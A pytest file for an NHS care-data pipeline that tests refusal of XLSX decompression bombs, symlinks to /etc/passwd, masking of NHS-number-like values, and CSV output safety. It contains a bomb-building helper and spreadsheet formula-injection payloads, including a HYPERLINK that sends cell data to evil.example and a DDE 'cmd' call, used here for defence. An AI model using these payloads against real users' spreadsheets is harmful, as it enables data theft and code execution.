"""Issue 21, point 5: the edges. An XLSX without cell references, links and non-files under a source, NHS-number-like
keys and file names, `bcf why` CSV, the run lock, the pseudonym key's fingerprint, and the one-line failures."""

from __future__ import annotations

import json
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from bcf.core.settings import contracts
from bcf.transforms.findings import FileProblem
from bcf.transforms.read import check_xlsx_size
from tests.conftest import write_xlsx

ROOT = Path(__file__).resolve().parents[2]
D_HEADER = contracts()["discharges"].names


# ---- a. XLSX cells and rows counted by element ------------------------------------------------------------------

def _reference_free(path: Path, rows: int, cells_per_row: int, empty_rows: int = 0) -> Path:
    """A workbook whose sheet has no r= references at all (some writers leave them out): `rows` rows of
    `cells_per_row` numeric cells, then `empty_rows` empty rows and one last cell. Streamed into the zip."""
    write_xlsx(path, {"Discharges": (D_HEADER, [["x"] * len(D_HEADER)])})
    with zipfile.ZipFile(path) as zin:
        parts = {i.filename: zin.read(i) for i in zin.infolist()}
    sheet = next(n for n in parts if n.startswith("xl/worksheets/sheet"))
    head, _, rest = parts.pop(sheet).partition(b"<sheetData>")
    foot = rest.partition(b"</sheetData>")[2]
    row = b"<row>" + b"<c><v>1</v></c>" * cells_per_row + b"</row>"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zout:
        for name, data in parts.items():
            zout.writestr(name, data)
        with zout.open(sheet, "w", force_zip64=True) as fh:
            fh.write(head + b"<sheetData>")
            for _ in range(rows):
                fh.write(row)
            fh.write(b"<row/>" * empty_rows)
            if empty_rows:
                fh.write(b"<row><c><v>1</v></c></row>")
            fh.write(b"</sheetData>" + foot)
    return path


@pytest.mark.slow
def test_a_reference_free_xlsx_bomb_is_refused_within_a_gigabyte(tmp_path: Path) -> None:
    """20.5 million cells with no references: the size guard counts the elements and refuses the file, in a
    process whose memory stays under 1 GB (today's guard sees no reference, so the reader builds the grid)."""
    bomb = _reference_free(tmp_path / "discharges_bomb.xlsx", 5_000, 4_100)
    assert bomb.stat().st_size < 5_000_000
    probe = (
        "import resource, sys\n"
        "resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))\n"
        "from pathlib import Path\n"
        "from bcf.transforms.findings import FileProblem\n"
        "from bcf.transforms.read import read_xlsx\n"
        "try:\n"
        "    read_xlsx(Path(sys.argv[1]), 'discharges_bomb.xlsx')\n"
        "except FileProblem as exc:\n"
        "    print(exc.rule, exc.message)\n"
        "print('maxrss_kb', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)\n"
    )
    done = subprocess.run([sys.executable, "-c", probe, str(bomb)], cwd=ROOT, capture_output=True, text=True,
                          timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    lines = done.stdout.splitlines()
    assert lines[0].startswith("file.too_large") and "5,000 rows x 4,100 columns" in lines[0]
    assert int(lines[-1].split()[1]) < 1_000_000  # KB: under 1 GB


def test_reference_free_rows_count_too(tmp_path: Path) -> None:
    """One wide row, then empty row elements: a grid of 16,384 columns x 1,302 rows, from a file of a few KB."""
    wide = _reference_free(tmp_path / "discharges_wide.xlsx", 1, 16_384, empty_rows=1_300)
    with pytest.raises(FileProblem) as caught:
        check_xlsx_size(wide)
    assert caught.value.rule == "file.too_large" and "1,302 rows x 16,384 columns" in caught.value.message


def test_a_referenced_workbook_keeps_its_exact_extent(tmp_path: Path) -> None:
    from bcf.transforms.read import _sheet_extent

    xml = b'<worksheet><sheetData><row r="1"><c r="A1"/><c r="C1"/></row><row r="7"><c r="B7"/></row></sheetData>'
    for size in (1, 3, 7, 1000):  # element names split across chunks
        chunks = iter([xml[i:i + size] for i in range(0, len(xml), size)])
        assert _sheet_extent(chunks) == (7, 3, 3)
    prefixed = b'<x:worksheet><x:sheetData><x:row><x:c><x:v>1</x:v></x:c><x:c/></x:row></x:sheetData>'
    assert _sheet_extent(iter([prefixed])) == (1, 2, 2)
    long = b"p" * 3000  # a namespace prefix longer than Python's recursion limit
    xml = b"<" + long + b":worksheet><" + long + b":row><" + long + b":c/><" + long + b":c/></" + long + b":row>"
    assert _sheet_extent(iter([xml])) == (1, 2, 2)


def _extent_row_by_row(chunks: Iterator[bytes]) -> tuple[int, int, int]:
    """_sheet_extent as first written, splitting each chunk into its rows in Python: the reference that the
    numpy placement of cells in rows must agree with."""
    import re

    from bcf.transforms import read

    cell_tokens, row_tokens = read._tokens(b"", b"c"), read._tokens(b"", b"row")
    max_row = max_col = unref_rows = cells = widest = current = 0
    tail, first = b"", True
    for chunk in chunks:
        block = tail + chunk
        if first:
            found = read._PREFIX.search(block[:4096])
            if found:
                cell_tokens += read._tokens(found.group(1) + b":", b"c")
                row_tokens += read._tokens(found.group(1) + b":", b"row")
            first = False
        cut = block.rfind(b"<")
        part, tail = (block[:cut], block[cut:]) if cut >= 0 and len(block) - cut < 1 << 20 else (block, b"")
        letters = set(read._REF_COLUMN.findall(part))
        if letters:
            max_col = max(max_col, *map(read._column_number, letters))
            numbers = set(read._REF_ROW.findall(part))
            if numbers:
                max_row = max(max_row, *map(int, numbers))
        count = sum(map(part.count, cell_tokens))
        cells += count
        unref_rows += sum(map(part.count, row_tokens)) - part.count(b'<row r="')
        if count == part.count(b'<c r="'):
            if read._ROW_OPEN.search(part):
                widest, current = max(widest, current), 0
            continue
        for index, piece in enumerate(re.compile(read._ROW_OPEN.pattern).split(part)):
            if index:
                widest, current = max(widest, current), 0
            current += sum(map(piece.count, cell_tokens)) - piece.count(b'<c r="')
    widest = max(widest, current)
    return max_row + max(unref_rows, 0), max_col + widest, cells


def test_reference_free_cells_are_placed_in_their_rows_as_row_by_row() -> None:
    """Random sheets mixing referenced and reference-free cells and rows, prefixed or not, cut into random chunks:
    the extent is the one the row-by-row reckoning gives."""
    import random

    from bcf.transforms.read import _sheet_extent

    rng = random.Random(25)
    for case in range(300):
        prefix = rng.choice([b"", b"x:"])
        out = [b"<" + prefix + b"worksheet><" + prefix + b"sheetData>"]
        for r in range(1, rng.randint(0, 12) + 1):
            out.append(rng.choice([b"<" + prefix + b"row>", b"<" + prefix + b'row r="%d">' % r,
                                   b"<" + prefix + b"row/>", b"<" + prefix + b"row\n>"]))
            for c in range(rng.randint(0, 6)):
                cell = rng.choice([b"<" + prefix + b"c>", b"<" + prefix + b'c r="%s%d">' % (b"ABCDEFG"[c:c + 1], r),
                                   b"<" + prefix + b"c/>", b"<" + prefix + b"c\t>", b"<" + prefix + b"col>"])
                out.append(cell + b"<v>1</v>" + (b"" if cell.endswith(b"/>") else b"</" + prefix + b"c>"))
            out.append(b"</" + prefix + b"row>")
        xml = b"".join(out) + b"</" + prefix + b"sheetData>"
        cuts = sorted(rng.sample(range(1, len(xml)), min(rng.randint(0, 6), len(xml) - 1)))
        chunks = [xml[a:b] for a, b in zip([0, *cuts], [*cuts, len(xml)], strict=True)]
        assert _sheet_extent(iter(chunks)) == _extent_row_by_row(iter(chunks)), (case, xml)


# ---- b. Sources: no link out of the source, and anything named like an extract that is not a file is a finding --

def test_links_folders_fifos_named_like_extracts_are_file_findings(tmp_path: Path, caplog: pytest.LogCaptureFixture,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    import logging
    import os

    from bcf.ingest.source_run import ingest_source
    from bcf.ingest.sources import list_source

    src = tmp_path / "src"
    src.mkdir()
    secret = tmp_path / "outside.csv"
    secret.write_text("transaction_id,canary\nT1,do-not-read-me\n")
    (src / "spend_x.csv").symlink_to("/etc/passwd")
    (src / "spend_out.csv").symlink_to(secret)
    (src / "discharges_gone.csv").symlink_to(src / "nowhere.csv")
    (src / "reablement_dir.csv").mkdir()
    os.mkfifo(src / "spend_fifo.csv")
    (src / "plan_link.xlsx").symlink_to(src / "archive")  # a link inside the source, to a folder
    (src / "archive").mkdir()  # named like nothing we know: not an extract, so not a finding
    objects = {o.name: o for o in list_source(str(src))}
    assert "archive" not in objects
    assert all(o.problem for o in objects.values())
    assert "/etc/passwd" not in " ".join(o.uri + str(o.path) for o in objects.values())
    caplog.set_level(logging.INFO)
    report = ingest_source(str(src), tmp_path / "data", "run-21b")
    found = {r.name: [(f.severity, f.rule) for f in r.findings] for r in report.files}
    for name in ("spend_x.csv", "spend_out.csv", "discharges_gone.csv", "reablement_dir.csv", "spend_fifo.csv",
                 "plan_link.xlsx"):
        assert found.pop(name) == [("error", "file.not_a_file")], name
    assert found == {}
    said = caplog.text + "".join(capsys.readouterr()) + " ".join(f.message for r in report.files for f in r.findings)
    assert "root:" not in said and "do-not-read-me" not in said and "/etc/passwd" not in said
    landed = [p for p in (tmp_path / "data").rglob("*") if p.is_file() and "landing" in p.parts]
    assert landed == []  # nothing of any of them was copied in


# ---- c. NHS-number-like keys, file names and sources never reach an output -----------------------------------------

FORMS = ["94347659{:02d}", "943 476 59{:02d}", "943-476-59{:02d}", "943.476.59{:02d}", "943\u00a0476\u00a059{:02d}",
         "943  476  59{:02d}", "943 - 476 - 59{:02d}"]


def _nhs_like_keys(path: Path, column: str, offset: int) -> None:
    """Every key of a fixture CSV rewritten as an NHS-number-like value, each form in turn."""
    import csv

    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    for i, row in enumerate(rows):
        row[column] = FORMS[i % len(FORMS)].format(i + offset)
    with open(path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def _raw_nhs(text: str) -> list[str]:
    """NHS-number-like values in an output, once hashes (sha256s, row hashes: hex, 16+ characters) and run ids (UUIDs,
    whose last 12 hex characters can hold ten digits by chance) are set aside."""
    import re

    from bcf.transforms.nhs_number import _LIKE

    uuids = re.sub(r"\b[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\b", "#", text)
    return _LIKE.findall(re.sub(r"\b[0-9a-f]{16,}\b", "#", uuids))


@pytest.mark.slow
def test_nhs_number_like_keys_and_file_names_never_reach_an_output(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    import duckdb

    from bcf.cli import main
    from tests.fixtures import EXPECTED_DF, HWB, write_df_fixture

    monkeypatch.setenv("BCF_ORCHESTRATION", "local")
    src = write_df_fixture(tmp_path / "src_943 476 5900")
    _nhs_like_keys(src / "spend_x.csv", "transaction_id", 10)
    _nhs_like_keys(src / "spend_x.csv", "description", 70)  # free text: masked, dotted and NBSP forms too
    _nhs_like_keys(src / "discharges_rwe.csv", "spell_id", 30)
    _nhs_like_keys(src / "reablement_x.csv", "episode_id", 50)
    (src / "spend_x.csv").rename(src / "spend_943.476.5999.csv")
    (src / "discharges_rwe.csv").rename(src / "discharges_9434765998.csv")
    out, data = tmp_path / "out", tmp_path / "data"
    code = main(["run", "fortnightly", "--source", str(src), "--hwb", HWB, "--period-end", "2023-01-19",
                 "--out", str(out), "--data-dir", str(data)])
    said = "".join(capsys.readouterr())
    assert code == 0, said
    pack = out / f"df_fortnightly_{HWB}_2023-01-19.audit"
    manifest = json.loads((pack / "manifest.json").read_text())
    got = {f["figure_id"]: f["value"] for f in manifest["figures"]}
    assert {k: got[k] for k in EXPECTED_DF} == {k: str(v) for k, v in EXPECTED_DF.items()}  # nothing merged
    texts = {p.name: p.read_text(encoding="utf-8") for p in pack.iterdir() if p.suffix in (".json", ".csv")}
    workbook = out / f"df_fortnightly_{HWB}_2023-01-19.xlsx"
    for answer in (["why", str(workbook), "spend_943.476.5999.csv", "2", "--format", "csv"],
                   ["why", str(workbook), "df.spend.fortnight", "943 476 5911"],
                   ["why", str(workbook), "discharges_9434765998.csv", "3"]):
        assert main(answer) == 0, capsys.readouterr()
        texts[" ".join(answer[2:])] = capsys.readouterr().out
    assert "******5911~" in texts["df.spend.fortnight 943 476 5911"]  # found by the number as the officer has it
    assert main(["validate", "--source", str(src)]) == 0
    texts["validate"] = "".join(capsys.readouterr())
    with duckdb.connect(str(data / "warehouse.duckdb"), read_only=True) as con:
        for table, column in (("files", "file_name"), ("files", "origin_uri"), ("runs", "parameters"),
                              ("stg_spend", "transaction_id"), ("stg_spend", "description"),
                              ("stg_discharges", "spell_id"),
                              ("stg_reablement", "episode_id")):
            texts[f"{table}.{column}"] = "\n".join(str(r[0]) for r in con.execute(f"SELECT {column} FROM {table}")
                                                   .fetchall())
        texts["lineage.parquet"] = "\n".join(f"{r[0]} {r[1]}" for r in con.execute(
            "SELECT \"key\", file FROM read_parquet(?)", [str(pack / "lineage.parquet")]).fetchall())
    assert "******5975" in texts["stg_spend.description"]
    assert "******5910~" in texts["stg_spend.transaction_id"] and "spend_******5999~" in texts["files.file_name"]
    leaks = {name: _raw_nhs(text) for name, text in {**texts, "console": said}.items() if _raw_nhs(text)}
    assert leaks == {}


# ---- d. `bcf why --format csv` is CSV-safe ---------------------------------------------------------------------

def test_why_csv_quotes_formula_payloads_and_keeps_numbers() -> None:
    import csv
    import io

    from bcf.audit.why import Answer, render

    answers = [
        Answer("spend_x.csv", 2, '=HYPERLINK("http://evil.example/?"&A1,"click")', "spend", "counted",
               counted=[("df.spend.fortnight", "-12.50"), ("df.spend.to_date", "+3")]),
        Answer("spend_x.csv", 3, "@SUM(1+1)*cmd|' /C calc'!A0", "spend", "not counted", note="-2+3+cmd"),
        Answer("spend_x.csv", 4, "+44 20", "spend", "not counted", note="\tTAB"),
    ]
    rows = list(csv.reader(io.StringIO(render(answers, "csv"))))
    cells = [c for r in rows[1:] for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c not in ("-12.50", "+3")]
    assert rows[1][2] == "'" + answers[0].key and rows[1][6] == "-12.50" and rows[2][6] == "+3"
    assert rows[3][2] == "'@SUM(1+1)*cmd|' /C calc'!A0" and rows[3][9] == "'-2+3+cmd"


# ---- e. Readers take the run lock (or step aside): a run starting meanwhile waits, never fails --------------------

HOLD = ("import sys\nfrom pathlib import Path\nfrom core.runlock import data_dir_lock\n"
        "with data_dir_lock(Path(sys.argv[1]), 'a scheduled run'):\n"
        "    print('held', flush=True)\n    sys.stdin.read()\n")


@pytest.mark.slow
def test_briefing_and_why_never_make_a_run_fail(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    from bcf.audit import why
    from bcf.cli import main
    from bcf.core.runlock import holds
    from tests.fixtures import HWB, write_df_fixture

    monkeypatch.setenv("BCF_ORCHESTRATION", "local")
    src = write_df_fixture(tmp_path / "src")
    out, data = tmp_path / "out", tmp_path / "data"
    assert main(["run", "fortnightly", "--source", str(src), "--hwb", HWB, "--period-end", "2023-01-19",
                 "--out", str(out), "--data-dir", str(data)]) == 0
    manifest = why.manifest_of(out / f"df_fortnightly_{HWB}_2023-01-19.xlsx")
    with why.warehouse_for(manifest) as (_con, where):
        assert where.startswith("the run's warehouse") and holds(data)  # a run starting now waits for the reader
    assert not holds(data)
    capsys.readouterr()
    holder = subprocess.Popen([sys.executable, "-c", HOLD, str(data)], cwd=ROOT, stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        with why.warehouse_for(manifest) as (_con, where):  # a run holds the data dir: why steps aside
            assert where.startswith("a warehouse rebuilt")
        monkeypatch.setenv("BCF_LOCK_TIMEOUT", "1")
        code = main(["briefing", "--hwb", HWB, "--fund-year", "2022-23", "--out", str(out), "--data-dir", str(data)])
        err = capsys.readouterr().err
        assert code == 2 and "waiting for run a scheduled run" in err and "gave up after 1 s" in err, err
    finally:
        holder.communicate("", timeout=30)


def _nhs_numbers(path: Path) -> None:
    import csv

    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    for row, number in zip(rows, ["9434765919", "4010232137", "9434765870"], strict=False):
        row["nhs_number"] = number
    with open(path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


# ---- f. The pseudonym key: weak keys refused; a data dir refuses another key unless told to re-pseudonymise ----

@pytest.mark.parametrize("weak", [" " * 32, "k" * 40, "abababababababababababababababab",
                                  "bcf-development-key-not-for-real-data"])
def test_weak_keys_are_refused(weak: str, monkeypatch: pytest.MonkeyPatch) -> None:
    from bcf.core.settings import PseudonymKeyError, pseudonym_key

    monkeypatch.setenv("BCF_PSEUDONYM_KEY", weak)
    with pytest.raises(PseudonymKeyError) as caught:
        pseudonym_key()
    assert not weak.strip() or weak.strip() not in str(caught.value)  # never echoed


@pytest.mark.slow
def test_a_data_dir_refuses_another_key_unless_told_to_repseudonymise(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    import duckdb

    from bcf.cli import main
    from bcf.ingest.keyprint import FINGERPRINT_FILE
    from tests.fixtures import HWB, write_df_fixture

    first, second = "first-key-0123456789abcdefghijklmnop", "second-key-0123456789abcdefghijklmno"
    monkeypatch.setenv("BCF_ORCHESTRATION", "local")
    monkeypatch.setenv("BCF_REPSEUDONYMISE", "")  # restored after the test: --repseudonymise sets it
    monkeypatch.setenv("BCF_PSEUDONYM_KEY", first)
    src = write_df_fixture(tmp_path / "src")
    _nhs_numbers(src / "discharges_rwe.csv")
    data = tmp_path / "data"

    def run(*extra: str) -> int:
        return main(["run", "fortnightly", "--source", str(src), "--hwb", HWB, "--period-end", "2023-01-19",
                     "--out", str(tmp_path / "out"), "--data-dir", str(data), *extra])

    def person_keys() -> set[str]:
        """The keyed values: person keys and row hashes."""
        with duckdb.connect(str(data / "warehouse.duckdb"), read_only=True) as con:
            return {r[0] for r in con.execute("SELECT person_key FROM stg_discharges WHERE person_key IS NOT NULL "
                                              "UNION ALL SELECT row_hash FROM stg_discharges").fetchall()}

    assert run() == 0
    remembered = (data / FINGERPRINT_FILE).read_text()
    assert first not in remembered and "fingerprint" in remembered
    before = person_keys()
    capsys.readouterr()
    monkeypatch.setenv("BCF_PSEUDONYM_KEY", second)
    assert run() == 2
    err = capsys.readouterr().err
    assert err.startswith("bcf: the data dir") and "--repseudonymise" in err and len(err.splitlines()) == 1
    assert second not in err and first not in err
    assert person_keys() == before  # nothing staged with the other key
    assert run("--repseudonymise") == 0
    after = person_keys()
    assert after and not after & before  # every person key is the new key's
    assert len(after) == len(before)
    assert list(data.glob("warehouse.before-repseudonymise-*.duckdb"))  # the old one kept
    monkeypatch.setenv("BCF_REPSEUDONYMISE", "")
    assert run() == 0  # the new key is the data dir's own now
    monkeypatch.setenv("BCF_PSEUDONYM_KEY", first)
    assert run() == 2


# ---- g. One `bcf:` line, exit 2 for impossible arguments, and a file rejected whole keeps its rows -------------

@pytest.mark.parametrize("args", [
    ["backfill", "--source", "{src}", "--hwb", "E06000017", "--from", "2023-03-01", "--to", "2023-01-01"],
    ["generate", "--hwb", "E06000017", "--from", "2023-01-01", "--to", "2023-02-01", "--scale", "-5", "--out",
     "{tmp}/gen"],
    ["generate", "--hwb", "E06000017", "--from", "2023-02-01", "--to", "2023-01-01", "--out", "{tmp}/gen"],
    ["validate", "--source", "s3://Invalid_Bucket!/extracts/"],
])
def test_impossible_arguments_are_one_line_and_exit_2(args: list[str], tmp_path: Path,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    from bcf.cli import main

    (tmp_path / "src").mkdir()
    code = main([a.format(src=tmp_path / "src", tmp=tmp_path) for a in args])
    out, err = capsys.readouterr()
    assert code == 2 and err.startswith("bcf: ") and len(err.splitlines()) == 1 and "Traceback" not in out + err
    assert not (tmp_path / "gen").exists()


@pytest.mark.slow
def test_a_killed_worker_is_one_line(small_extracts: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                     capsys: pytest.CaptureFixture[str]) -> None:
    from bcf.cli import main
    from bcf.ingest import source_run as intake
    from bcf.ingest import worker

    real_submit = worker.Preparer.submit

    def submit_then_die(self: worker.Preparer, jobs: list[worker.Job], key: bytes) -> None:
        real_submit(self, jobs, key)
        self._process.kill()  # as the kernel's out-of-memory killer would

    monkeypatch.setattr(intake, "WORKER_MIN_COST", 0)
    monkeypatch.setattr(worker.Preparer, "submit", submit_then_die)
    monkeypatch.setenv("BCF_ORCHESTRATION", "local")
    code = main(["ingest", "--source", str(small_extracts), "--data-dir", str(tmp_path / "data")])
    out, err = capsys.readouterr()
    assert code == 2 and "Traceback" not in out + err, err
    assert err.startswith("bcf: the worker process reading files stopped (exit code -9)") and len(err.splitlines()) == 1


def test_a_csv_rejected_whole_keeps_its_rows_as_received_and_rejected(tmp_path: Path) -> None:
    import duckdb

    from bcf.ingest.source_run import ingest_source

    src = tmp_path / "src"
    src.mkdir()
    header = ",".join(D_HEADER)
    (src / "discharges_1252.csv").write_bytes((header + "\nS1,RWE,Caf\xe9 9434765919\n\nS2,RWE,x\n").encode("cp1252"))
    (src / "discharges_semi.csv").write_text(header.replace(",", ";") + "\nS1;RWE\nS2;RWE\nS3;RWE\n")
    report = ingest_source(str(src), tmp_path / "data", "run-21g")
    got = {r.name: (r.outcome, r.rows_received, r.rows_loaded, r.rows_rejected) for r in report.files}
    assert got == {"discharges_1252.csv": ("rejected", 2, 0, 2), "discharges_semi.csv": ("rejected", 3, 0, 3)}
    with duckdb.connect(str(tmp_path / "data" / "warehouse.duckdb"), read_only=True) as con:
        files = con.execute("SELECT file_name, rows_received, rows_rejected FROM files ORDER BY 1").fetchall()
        lines = con.execute("SELECT source_row, raw_values FROM rejected_rows r JOIN files f USING (file_id) "
                            "WHERE f.file_name = 'discharges_1252.csv' ORDER BY 1").fetchall()
    assert files == [("discharges_1252.csv", 2, 2), ("discharges_semi.csv", 3, 3)]
    assert [r[0] for r in lines] == [2, 4] and "******5919" in lines[0][1] and "9434765919" not in lines[0][1]


def test_nhs_number_like_s3_keys_are_tokens_in_what_is_recorded(monkeypatch: pytest.MonkeyPatch) -> None:
    from bcf.core import s3
    from bcf.ingest import sources

    class Pages:
        def paginate(self, **_: str) -> list[dict[str, list[dict[str, object]]]]:
            return [{"Contents": [{"Key": "in/943 476 5919/spend_943-476-5919.csv", "Size": 10, "ETag": '"e"'},
                                  {"Key": "in/943 476 5919/plan_x.xlsx", "Size": 5, "ETag": '"f"'}]}]

    class Client:
        def get_paginator(self, _: str) -> Pages:
            return Pages()

    monkeypatch.setattr(s3, "client", Client)
    objects = sources.list_source("s3://bucket/in/943 476 5919/")
    assert [o.name[:17] for o in objects] == ["plan_x.xlsx", "spend_******5919~"]
    for o in objects:
        assert "5919" not in o.uri.replace("******5919", "")  # the recorded URI holds the token only
        assert o.key is not None and o.key.startswith("in/943 476 5919/")  # the real key, to fetch it
    assert sources.kind_of(objects[1].name) == "spend"


def test_a_sheet_rejected_for_its_header_keeps_its_rows(tmp_path: Path) -> None:
    from bcf.ingest.source_run import ingest_source

    src = tmp_path / "src"
    src.mkdir()
    row = ["S1", "RWE", "acute", "", 80, "E06000017", "2023-01-02", 21, "", "2023-01-06", 19, 1, "J44.1", ""]
    write_xlsx(src / "discharges_dup.xlsx", {"Discharges": ([*D_HEADER[:-1], "age"], [row, row, [None] * 14])})
    write_xlsx(src / "discharges_title.xlsx", {"Discharges": ([""] * 14, [["Discharges for January"], D_HEADER, row])})
    report = ingest_source(str(src), tmp_path / "data", "run-21g-xlsx")
    got = {r.name: (r.outcome, r.rows_received, r.rows_rejected, [f.rule for f in r.findings]) for r in report.files}
    assert got == {"discharges_dup.xlsx": ("rejected", 2, 2, ["file.duplicate_column"]),
                   "discharges_title.xlsx": ("rejected", 3, 3, ["file.empty"])}
